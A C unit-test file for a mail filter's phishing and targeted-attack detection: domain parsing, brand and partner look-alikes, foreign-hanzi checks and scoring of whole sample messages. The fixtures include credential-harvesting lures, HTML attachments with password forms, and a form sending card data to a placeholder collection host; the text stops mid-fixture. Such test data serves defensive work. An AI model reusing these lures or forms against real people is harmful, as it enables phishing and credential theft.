/*
 * test_attack - inbound targeted-attack indicators: registrable domains,
 * anchor text hosts, brand look-alikes, hanzi outside the Japanese sets,
 * the brand file, and whole messages through the engine (findings, the
 * summed weight and the action it leads to).
 */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#include "om_test.h"
#include "om_attack.h"
#include "om_snap.h"
#include "om_engine.h"
#include "om_log.h"
#include "om_state.h"

static om_snap *snap;
static char dir[] = "/tmp/om_test_attack.XXXXXX";

static int
setup(void **state)
{
	(void) state;
	if (mkdtemp(dir) == NULL)
		return (-1);
	om_log_open("test_attack", 0, 0);
	if (om_test_write(dir, "partners.txt", "# partners\npartner-shoji.example\n"
			  "dongfang-travel.example\ntokai-kogyo.co.jp  # a customer firm\n") < 0)
		return (-1);
	snap = om_test_conf(dir, "internal_domains = sakura-hoken.example\n"
			    "rules_dir = " OM_RULES_SRCDIR "\n"
			    "attack_partners = partners.txt\n"
			    "trusted_networks =\n");
	return (snap ? 0 : -1);
}

static int
teardown(void **state)
{
	(void) state;
	return (om_test_done(snap, dir));
}

/* Registrable domains from the Public Suffix List. */
static void
test_registrable(void **state)
{
	static const struct {
		const char *host;
		const char *want;
	} cases[] = {
		{"www.smbc.co.jp", "smbc.co.jp"},
		{"click.news.example", "news.example"},
		{"a.b.example.com", "example.com"},
		{"foo.city.yokohama.jp", "city.yokohama.jp"},
		{"www.foo.bar.yokohama.jp", "foo.bar.yokohama.jp"},
		{"WWW.Example.COM.", "example.com"},
		{"例え.jp", "xn--r8jz45g.jp"},
	};
	char    out[OM_ATTACK_HOST_MAX];

	(void) state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_int_equal(om_attack_registrable(cases[i].host, out, sizeof(out)), 0);
		if (strcmp(out, cases[i].want) != 0)
			fail_msg("%s: got %s, want %s", cases[i].host, out, cases[i].want);
	}
	assert_true(om_attack_same_org("mail.partner.example", "www.partner.example"));
	assert_false(om_attack_same_org("partner.example", "partner.example.net"));
}

/* Which anchor texts name a host, and which host. */
static void
test_text_host(void **state)
{
	static const struct {
		const char *text;
		const char *want;		/* NULL: not a URL or domain */
	} cases[] = {
		{"https://www.smbc.co.jp/login", "www.smbc.co.jp"},
		{" www.Partner.example ", "www.partner.example"},
		{"partner.example/path?q=1", "partner.example"},
		{"http://user@host.example:8080/x", "host.example"},
		{"こちら", NULL},
		{"Click here", NULL},
		{"invoice.pdf", NULL},
		{"version 1.2", NULL},
		{"see www.a.example for more", NULL},
	};
	static const struct {
		const char *url;
		const char *want;		/* NULL: no host */
	} urls[] = {
		/* Prose glued to the host is not part of it. */
		{"http://198.51.100.7にアクセスしてください", "198.51.100.7"},
		{"https://login.example\xe3\x80\x82", "login.example"},
		{"https://login.example\xe3\x81\xb8", "login.example"},
		/* Blanks a browser drops from an href. */
		{" \thttp://198.51.100.7/owa", "198.51.100.7"},
		/* Guards: IDN hosts stay whole. */
		{"https://\xe4\xbe\x8b\xe3\x81\x88.jp/", "\xe4\xbe\x8b\xe3\x81\x88.jp"},
		{"https://shop.\xe4\xbe\x8b\xe3\x81\x88.jp/", "shop.\xe4\xbe\x8b\xe3\x81\x88.jp"},
		{"mailto x://", NULL},
	};
	char    out[OM_ATTACK_HOST_MAX];

	(void) state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int     rc = om_attack_text_host(cases[i].text, out, sizeof(out));

		if (cases[i].want == NULL) {
			if (rc == 0)
				fail_msg("\"%s\": took it for host %s", cases[i].text, out);
		} else if (rc != 0 || strcmp(out, cases[i].want) != 0)
			fail_msg("\"%s\": rc %d host %s, want %s", cases[i].text, rc, rc ? "-" : out, cases[i].want);
	}
	for (size_t i = 0; i < sizeof(urls) / sizeof(urls[0]); i++) {
		int     rc = om_attack_url_host(urls[i].url, out, sizeof(out));

		if (urls[i].want == NULL) {
			if (rc == 0)
				fail_msg("\"%s\": took it for host %s", urls[i].url, out);
		} else if (rc != 0 || strcmp(out, urls[i].want) != 0)
			fail_msg("\"%s\": rc %d host %s, want %s", urls[i].url, rc, rc ? "-" : out, urls[i].want);
	}
}

/* Brand tokens, whole-part tokens, own domains, homographs, IP hosts. */
static void
test_lookalike(void **state)
{
	static const struct {
		const char *host;
		const char *want;		/* rule, or NULL */
	} cases[] = {
		{"www.smbc.co.jp", NULL},
		{"smbc-login.example", "attack.lookalike.brand"},
		{"smbc.co.jp.verify-account.example", "attack.lookalike.brand"},
		{"www.aioinissaydowa.co.jp", NULL},
		{"nissay-kakunin.example", "attack.lookalike.brand"},
		{"www.nta.go.jp", NULL},
		{"nta-refund.example", "attack.lookalike.brand"},
		{"santa.example", NULL},
		{"kddi-au.example", "attack.lookalike.brand"},
		{"beauty.example", NULL},
		{"192.0.2.10", "attack.lookalike.ip_host"},
		{"www.mynavi.jp", NULL},
		{"partner-shoji.example", NULL},
		{"www.antdiv.gov.au", NULL},		/* .au is Australia, not the carrier */
		{"au-login.example.com.au", "attack.lookalike.brand"},
		/* Airlines, cloud mail, carriers, tax added to brands.txt. */
		{"www.jal.co.jp", NULL},
		{"jal-mileage-campaign.example", "attack.lookalike.brand"},
		{"ana-mileage.example", "attack.lookalike.brand"},
		{"www.ana.co.jp", NULL},
		{"banana.example", NULL},
		{"microsoft365-verify.example", "attack.lookalike.brand"},
		{"login.microsoftonline.com", NULL},
		{"outlook-web-access.example", "attack.lookalike.brand"},
		{"gmail-support.example", "attack.lookalike.brand"},
		{"accounts.google.com.security-check.example", "attack.lookalike.brand"},
		{"googleads.g.doubleclick.net", NULL},
		{"www.google-analytics.com", NULL},
		{"eltax-refund.example", "attack.lookalike.brand"},
		{"ymobile-support.example", "attack.lookalike.brand"},
		{"etc-meisai.jp.riyou-kakunin.example", "attack.lookalike.brand"},
		/* Addresses in the other forms a browser accepts. */
		{"3325256711", "attack.lookalike.ip_host"},
		{"0xc6.0x33.0x64.0x07", "attack.lookalike.ip_host"},
		{"198.51.100.7.", "attack.lookalike.ip_host"},
		{"1.2.3.4.5", NULL},
		{"0", NULL},				/* x-apple-data-detectors://0 */
		{"1.2", NULL},
		{"2024.example", NULL},
		/* Digits for letters. */
		{"www.amaz0n-co-jp.example", "attack.lookalike.digit"},
		{"m1zuho-direct.example", "attack.lookalike.digit"},
		{"rakuten-card.co.jp.login-check.example", "attack.lookalike.brand"},
		{"web01.example", NULL},
		{"a1.example", NULL},
		{"mail1.example", NULL},
	};
	const om_brands *b = snap->brands;
	char    host[OM_ATTACK_HOST_MAX];

	(void) state;
	assert_non_null(b);
	assert_true(om_brands_count(b) > 50);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *got = om_attack_lookalike(b, cases[i].host);

		if ((got == NULL) != (cases[i].want == NULL) || (got && strcmp(got, cases[i].want) != 0))
			fail_msg("%s: got %s, want %s", cases[i].host, got ? got : "none",
				 cases[i].want ? cases[i].want : "none");
	}
	/* A Cyrillic о in "smbc" written as punycode. */
	assert_int_equal(om_attack_registrable("smbс.example", host, sizeof(host)), 0);
	assert_string_equal(om_attack_lookalike(b, host), "attack.lookalike.homograph");
}

/* Hanzi outside JIS X 0208/0213 and CP932. */
static void
test_hanzi(void **state)
{
	static const struct {
		unsigned cp;
		int	foreign;
	} cases[] = {
		{0x8fd9, 1},			/* 这 */
		{0x4eec, 1},			/* 们 */
		{0x8bf4, 1},			/* 说 */
		{0x8aaa, 1},			/* 說 */
		{0x6236, 1},			/* 戶 */
		{0x65e5, 0},			/* 日 */
		{0x9ad9, 0},			/* 髙 (CP932 only) */
		{0xfa11, 0},			/* 﨑 */
		{0x5c71, 0},			/* 山 */
		{0x3042, 0},			/* あ: not a hanzi */
	};

	(void) state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (om_attack_hanzi_foreign(cases[i].cp) != cases[i].foreign)
			fail_msg("U+%04X: want %d", cases[i].cp, cases[i].foreign);
}

/* The brand file format and its errors. */
static void
test_brands_parse(void **state)
{
	static const char good[] = "# comment\n\nA社 | A | alpha =ab | alpha.example, alpha.test\n";
	static const char bad[] = "A社 | A | alpha\n";
	om_conf_err err;
	om_brands *b;

	(void) state;
	memset(&err, 0, sizeof(err));
	b = om_brands_parse(good, sizeof(good) - 1, "good", &err);
	assert_non_null(b);
	assert_int_equal(om_brands_count(b), 1);
	assert_string_equal(om_attack_lookalike(b, "ab-login.example"), "attack.lookalike.brand");
	assert_null(om_attack_lookalike(b, "cab.example"));
	assert_null(om_attack_lookalike(b, "www.alpha.example"));
	om_brands_free(b);
	assert_null(om_brands_parse(bad, sizeof(bad) - 1, "bad", &err));
	assert_non_null(strstr(err.text, "bad:1:"));
}

/* Look-alikes of the firm's own and its partners' domains. */
static void
test_own_lookalike(void **state)
{
	static const struct {
		const char *host;
		const char *how;		/* NULL: not a look-alike */
		int	kind;
	} cases[] = {
		{"sakura-hoken.example", NULL, 0},
		{"mail.sakura-hoken.example", NULL, 0},
		{"sakura-hoken.com", "tld", OM_ATTACK_OWN_INTERNAL},
		{"sakura-hoken.co.jp", "tld", OM_ATTACK_OWN_INTERNAL},
		{"sakurahoken.example", "homograph", OM_ATTACK_OWN_INTERNAL},
		{"sakura-hoken.example.net", "word", OM_ATTACK_OWN_INTERNAL},
		{"sakura-h0ken.com", "homograph", OM_ATTACK_OWN_INTERNAL},
		{"sakura-hoken-login.com", "word", OM_ATTACK_OWN_INTERNAL},
		{"sakura-hoken.example.verify.example", "word", OM_ATTACK_OWN_INTERNAL},
		{"loginsakurahoken.example", "word", OM_ATTACK_OWN_INTERNAL},
		{"sakura-hokken.example", "typo", OM_ATTACK_OWN_INTERNAL},
		{"sakula-hokem.example", "typo", OM_ATTACK_OWN_INTERNAL},
		{"partnre-shoji.example", "typo", OM_ATTACK_OWN_PARTNER},
		{"partner-shoji.co", "tld", OM_ATTACK_OWN_PARTNER},
		{"parlner-shoji.example", "typo", OM_ATTACK_OWN_PARTNER},
		{"www.partner-shoji.example", NULL, 0},
		{"tokai-kogyo.co.jp", NULL, 0},
		{"tokai-kougyo.co.jp", "typo", OM_ATTACK_OWN_PARTNER},
		/* Other firms: a shared word is not a look-alike. */
		{"sakura.example", NULL, 0},
		{"hoken-navi.example", NULL, 0},
		{"tokai.co.jp", NULL, 0},
		{"abc.com", NULL, 0},			/* abc.co.jp: too short to judge */
		{"192.0.2.1", NULL, 0},
	};
	om_domidx *x = om_domidx_new();
	char    host[OM_ATTACK_HOST_MAX];
	int     kind;

	(void) state;
	assert_int_equal(om_domidx_add(x, "sakura-hoken.example", OM_ATTACK_OWN_INTERNAL), 0);
	assert_int_equal(om_domidx_add(x, "partner-shoji.example", OM_ATTACK_OWN_PARTNER), 0);
	assert_int_equal(om_domidx_add(x, "mail.tokai-kogyo.co.jp", OM_ATTACK_OWN_PARTNER), 0);
	assert_int_equal(om_domidx_add(x, "abc.co.jp", OM_ATTACK_OWN_PARTNER), 0);
	assert_int_equal(om_domidx_add(x, "co.jp", OM_ATTACK_OWN_PARTNER), -1);
	om_domidx_done(x);
	assert_int_equal(om_domidx_count(x), 4);
	assert_true(om_domidx_has(x, "www.tokai-kogyo.co.jp"));
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *got;

		kind = 0;
		got = om_domidx_lookalike(x, cases[i].host, &kind, NULL);
		if ((got == NULL) != (cases[i].how == NULL) || (got && strcmp(got, cases[i].how) != 0)
		    || (got && kind != cases[i].kind))
			fail_msg("%s: got %s (%d), want %s (%d)", cases[i].host, got ? got : "none", kind,
				 cases[i].how ? cases[i].how : "none", cases[i].kind);
	}
	/* A Cyrillic а in the firm's name, as the A-label mail carries. */
	assert_int_equal(om_attack_registrable("s\xd0\xb0kura-hoken.com", host, sizeof(host)), 0);
	assert_string_equal(om_domidx_lookalike(x, host, &kind, NULL), "homograph");
	om_domidx_free(x);
}

/*
 * Thousands of partners: built once, each look-up visits only the names
 * near in length (measured: the figure is printed, the bound is loose).
 */
static void
test_own_many(void **state)
{
	om_domidx *x = om_domidx_new();
	char    d[64];
	unsigned seed = 12345, hits = 0;
	struct timespec t0, t1, t2;
	double  build, look;

	(void) state;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (int i = 0; i < 5000; i++) {
		size_t  n = 5 + (seed = seed * 1103515245u + 12345u) % 10;

		for (size_t k = 0; k < n; k++)
			d[k] = (char) ('a' + (seed = seed * 1103515245u + 12345u) % 26);
		snprintf(d + n, sizeof(d) - n, "%s", i % 3 ? ".co.jp" : ".com");
		(void) om_domidx_add(x, d, OM_ATTACK_OWN_PARTNER);
	}
	om_domidx_add(x, "kitamura-shoji.co.jp", OM_ATTACK_OWN_PARTNER);
	om_domidx_done(x);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	for (int i = 0; i < 1000; i++) {
		snprintf(d, sizeof(d), "host%dexample.net", i);
		hits += om_domidx_lookalike(x, d, NULL, NULL) != NULL;
	}
	clock_gettime(CLOCK_MONOTONIC, &t2);
	build = (double) (t1.tv_sec - t0.tv_sec) + (double) (t1.tv_nsec - t0.tv_nsec) / 1e9;
	look = ((double) (t2.tv_sec - t1.tv_sec) + (double) (t2.tv_nsec - t1.tv_nsec) / 1e9) / 1000;
	print_message("5001 partner domains: index built in %.1f ms, %.3f ms a look-up, %u of 1000 unrelated hosts hit\n",
		      build * 1e3, look * 1e3, hits);
	assert_string_equal(om_domidx_lookalike(x, "kitamura-shouji.co.jp", NULL, NULL), "typo");
	assert_true(look < 0.02);
	om_domidx_free(x);
}

static const struct {
	const char *name;
	const char *from;		/* envelope sender */
	const char *msg;
	const char *want;		/* attack.* categories, space separated, sorted */
	unsigned score;
	om_action action;
} msg_cases[] = {
	{"customer on gmail: one weak indicator, accepted", "hanako@gmail.com",
	 "From: Hanako <hanako@gmail.com>\r\nTo: tanaka@sakura-hoken.example\r\n"
	 "Subject: =?UTF-8?B?5L2P5omA5aSJ5pu044Gu44GU6YCj57Wh?=\r\n\r\nhello\r\n",
	 "attack.freemail_sender", 1, OM_ACT_ACCEPT},
	{"partner mail: nothing", "yamada@partner-shoji.example",
	 "From: yamada@partner-shoji.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: hello\r\n\r\n"
	 "See you tomorrow.\r\n--\r\nYamada\r\nyamada@partner-shoji.example\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"interview request from gmail, magazine signature: tag", "writer@gmail.com",
	 "From: writer@gmail.com\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Interview request\r\n\r\n"
	 "Dear Sir,\r\nwe would like to talk.\r\n--\r\nEditor\r\neditor@magazine.example\r\n",
	 "attack.freemail_sender attack.signature_mismatch attack.theme", 3, OM_ACT_TAG},
	{"reply-to elsewhere alone: accepted", "info@shop.example",
	 "From: info@shop.example\r\nReply-To: x@other.example\r\nTo: tanaka@sakura-hoken.example\r\n"
	 "Subject: hi\r\n\r\nhello\r\n",
	 "attack.signature_mismatch", 1, OM_ACT_ACCEPT},
	{"look-alike link asking for a login: hold", "notice@smbc-secure.example",
	 "From: notice@smbc-secure.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
	 "<p>Please verify your account:</p><a href=\"https://smbc-secure.example/l\">https://www.smbc.co.jp/</a>\r\n",
	 "attack.credential_request attack.lookalike_url attack.theme attack.url_mismatch", 7, OM_ACT_HOLD},
	{"tracking redirect on the sender's own domain: nothing", "news@news.example",
	 "From: news@news.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: news\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
	 "<a href=\"https://click.news.example/r?u=1\">www.news.example</a>\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"genuine warning never asks for the password: no request", "info@bank.example",
	 "From: info@bank.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?44GK55+l44KJ44Gb?=\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "当行からメールでパスワードの入力をお願いすることはありません。\r\nhttps://www.bank.example/\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"japanese text with simplified hanzi: tag", "info@center.example",
	 "From: info@center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?44GK55+l44KJ44Gb?=\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "お客さまの情报を确认する必要がありますので、ご対応ください。\r\n",
	 "attack.non_japanese_kanji", 2, OM_ACT_TAG},
	{"one stray place name: below the threshold", "info@center.example",
	 "From: info@center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?44GK55+l44KJ44Gb?=\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "上海市浦东新区の事務所へお送りいたしますのでよろしくお願いします。\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"sender at a look-alike of a partner, bank change: tag", "keiri@partner-shojl.example",
	 "From: keiri@partner-shojl.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?5oyv6L685YWI5aSJ5pu044Gu44GK6aGY44GE?=\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "お世話になっております。今月より下記口座へお振込みください。\r\n",
	 "attack.lookalike_sender attack.theme", 3, OM_ACT_TAG},
	{"link to a look-alike of the firm's own domain: tag", "it@helpdesk.example",
	 "From: it@helpdesk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
	 "See https://sakura-hokem.example/owa for the new portal.\r\n",
	 "attack.lookalike_url", 2, OM_ACT_TAG},
	{"mailbox quota theme with a link to the look-alike: hold", "it@sakura-hoken.com",
	 "From: it@sakura-hoken.com\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox quota\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
	 "Your mailbox is almost full. https://sakura-hoken.com/quota\r\n",
	 "attack.credential_request attack.lookalike_sender attack.lookalike_url attack.theme", 7, OM_ACT_HOLD},
	{"password expiry theme alone: accepted", "info@vendor.example",
	 "From: info@vendor.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?44OR44K544Ov44O844OJ44Gu5pyJ5Yq55pyf6ZmQ?=\r\n\r\nhello\r\n",
	 "attack.theme", 1, OM_ACT_ACCEPT},
	{"mail from the partner itself: nothing", "keiri@partner-shoji.example",
	 "From: keiri@partner-shoji.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: hello\r\n\r\nhello\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"login page attached as html: tag", "billing@invoices.example",
	 "From: billing@invoices.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html; name=doc.htm\r\nContent-Disposition: attachment; filename=doc.htm\r\n\r\n"
	 "<html><body><form method=post action=\"login.php\">Email <input name=u>"
	 "Password <input type=\"PASSWORD\" name=p></form></body></html>\r\n--b--\r\n",
	 "attack.credential_request", 2, OM_ACT_TAG},
	{"html attachment whose script writes the form: tag", "billing@invoices.example",
	 "From: billing@invoices.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=Statement.shtml\r\n\r\n"
	 "<script>var i=document.createElement('input'); i.type = 'password'; document.body.appendChild(i);</script>\r\n--b--\r\n",
	 "attack.credential_request", 2, OM_ACT_TAG},
	{"html attachment posting to a web site: tag", "billing@invoices.example",
	 "From: billing@invoices.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=statement.html\r\n\r\n"
	 "<form action=\"https://collect.example/p\"><input name=card></form>\r\n--b--\r\n",
	 "attack.credential_request", 2, OM_ACT_TAG},
	{"html attachment without a form (a saved page): nothing", "news@news.example",
	 "From: news@news.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: letter\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=letter.html\r\n\r\n"
	 "<html><body><p>Dear customer,</p><p>our office moves.</p><form action=\"search\"><input name=q></form></body></html>\r\n--b--\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"all simplified Chinese from a stranger: tag", "service@mailbox-center.example",
	 "From: service@mailbox-center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "尊敬的客户，您的邮箱容量已满，系统将暂停接收新邮件。请尽快联系管理员处理，谢谢合作。\r\n",
	 "attack.non_japanese_kanji attack.theme", 3, OM_ACT_TAG},
	{"all traditional Chinese from a stranger: tag", "service@mailbox-center.example",
	 "From: service@mailbox-center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "您好，您的電子郵件存儲空間已滿，我們將在今天停止您的服務。請聯繫管理員，這是最後的通知。\r\n",
	 "attack.non_japanese_kanji", 2, OM_ACT_TAG},
	{"all Chinese from a listed partner: nothing", "liu@dongfang-travel.example",
	 "From: liu@dongfang-travel.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: hello\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "您好！我们计划五月组织一个二十五人的访日旅游团，想请贵公司协助办理旅行保险，请告知所需资料。\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"raw IPv4 link written into Japanese prose: tag", "info@quota-notice.example",
	 "From: info@quota-notice.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "詳細は http://198.51.100.7にアクセスしてご確認ください。\r\n",
	 "attack.lookalike_url", 2, OM_ACT_TAG},
	{"anchor showing a site, href the site with a digit for a letter: hold", "news@mitsui-shoji.example",
	 "From: news@mitsui-shoji.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "<a href=\"https://www.m1tsui-shoji.example/l\">https://www.mitsui-shoji.example/</a>\r\n",
	 "attack.lookalike_url attack.url_mismatch", 4, OM_ACT_HOLD},
	{"traditional Chinese quotation under a Japanese greeting: tag", "sales@tw-trading.example",
	 "From: sales@tw-trading.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: quotation\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "いつもお世話になっております。お見積りの件、下記の通りご連絡いたします。よろしくお願いいたします。\r\n您好，附件是本公司的報價單，請查收。如有任何問題，請與我們聯繫。\r\n",
	 "attack.non_japanese_kanji", 2, OM_ACT_TAG},
	{"the same quotation from a listed partner: nothing", "liu@dongfang-travel.example",
	 "From: liu@dongfang-travel.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: quotation\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "いつもお世話になっております。お見積りの件、下記の通りご連絡いたします。よろしくお願いいたします。\r\n您好，附件是本公司的報價單，請查收。如有任何問題，請與我們聯繫。\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"old forms in Japanese names: nothing", "soumu@center.example",
	 "From: soumu@center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: meeting\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "渡邊さん、齋藤さん、國分さんが次回の会議に出席されます。よろしくお願いいたします。\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"English quota notice asking for the mailbox password at an IP (a guard): hold", "helpdesk@webmail-admin.example",
	 "From: helpdesk@webmail-admin.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "Your mailbox has exceeded the storage limit. Confirm your email password below to increase your mailbox storage: http://203.0.113.9/upgrade\r\n",
	 "attack.credential_request attack.lookalike_url attack.theme", 5, OM_ACT_HOLD},
	{"internal-looking password change notice with a link: tag", "it-support@helpdesk-portal.example",
	 "From: it-support@helpdesk-portal.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "パスワード変更のお願い\r\n下記ページよりパスワードを変更してください。\r\nhttps://helpdesk-portal.example/pw\r\n",
	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
	{"card usage check lure: theme", "card@card-center.example",
	 "From: card@card-center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "カードのご利用を一部制限させていただきました。ご利用確認のお願いをご覧ください。\r\n",
	 "attack.theme", 1, OM_ACT_ACCEPT},
	{"mileage lure: theme", "jmb@mile-info.example",
	 "From: jmb@mile-info.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "【重要】マイル有効期限に関するご案内\r\n",
	 "attack.theme", 1, OM_ACT_ACCEPT},
	{"simplified Chinese mailbox upgrade in Japanese: tag", "admin@mail-center.example",
	 "From: admin@mail-center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "お客様のメールボックスを升级してください。邮箱の容量がいっぱいです。よろしくお願いします。\r\n",
	 "attack.non_japanese_kanji attack.theme", 3, OM_ACT_TAG},
	{"English expiry notice from free mail, keep the password: hold", "it.helpdesk.team@gmail.com",
	 "From: it.helpdesk.team@gmail.com\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Password notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "Your password is about to expire. Click here to keep the same password: https://keep-pass.example/k\r\n",
	 "attack.credential_request attack.freemail_sender attack.theme", 4, OM_ACT_HOLD},
	{"delivery address to correct at a sign-in page: theme and request", "info@delivery-info.example",
	 "From: info@delivery-info.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "宛先不明のため配送できませんでした。下記リンクからログインしてお届け先を更新してください。https://redelivery.example/\r\n",
	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
	{"genuine password changed notice: nothing", "noreply@service.example",
	 "From: noreply@service.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "パスワードを変更しました。お心当たりがない場合はサポートまでご連絡ください。https://www.service.example/\r\n",
	 "", 0, OM_ACT_ACCEPT},
	/* Third round: forms the second round missed. */
	{"attached page writing its login form from base64: tag", "billing@invoice-view.example",
	 "From: billing@invoice-view.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=doc.html\r\n\r\n"
